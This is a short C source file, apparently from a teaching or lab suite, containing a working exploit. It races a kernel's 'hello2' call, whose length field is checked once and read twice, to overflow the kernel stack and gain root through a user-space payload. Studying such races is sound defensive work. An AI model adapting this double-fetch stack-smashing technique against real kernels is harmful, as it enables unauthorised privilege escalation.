/* SPDX-License-Identifier: MIT */
/*
 * race-len [CALLS]: wins root from a kernel whose hello2 checks the length of
 * the name and then reads it again.
 *
 * The victim asks for six bytes. The adversary makes that more than the
 * kernel's buffer holds, at the right moment: then the kernel itself copies
 * our bytes over the return address on its stack, and returns to payload(),
 * in user memory, with all its privileges.
 */
#include <race.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#define GOOD 6 /* beagle */
#define EVIL OVERFLOW

static unsigned long name[OVERFLOW / sizeof(unsigned long)];
static struct hello2_in in = { (char *)name, GOOD, 7 };
static struct hello2_out out;

static void *adversary(void *unused)
{
	while (race_goes_on()) {
		in.len = EVIL;
		sched_yield();
		in.len = GOOD;
	}
	return NULL;
}

int main(int argc, char *argv[])
{
	unsigned int calls = argc > 1 ? strtoul(argv[1], NULL, 0) : 1;

	fill_overflow(name);
	if (race_arm() || setuid(NOBODY) || race_begin(adversary)) {
		perror("race-len");
		return 2;
	}
	printf("uid %u, setuid(0) gives %d\n", getuid(), setuid(0));

	while (calls-- && getuid())
		call_hello2(&in, &out);
	race_end();

	printf("uid %u\n", getuid());
	return getuid() ? 1 : 0;
}
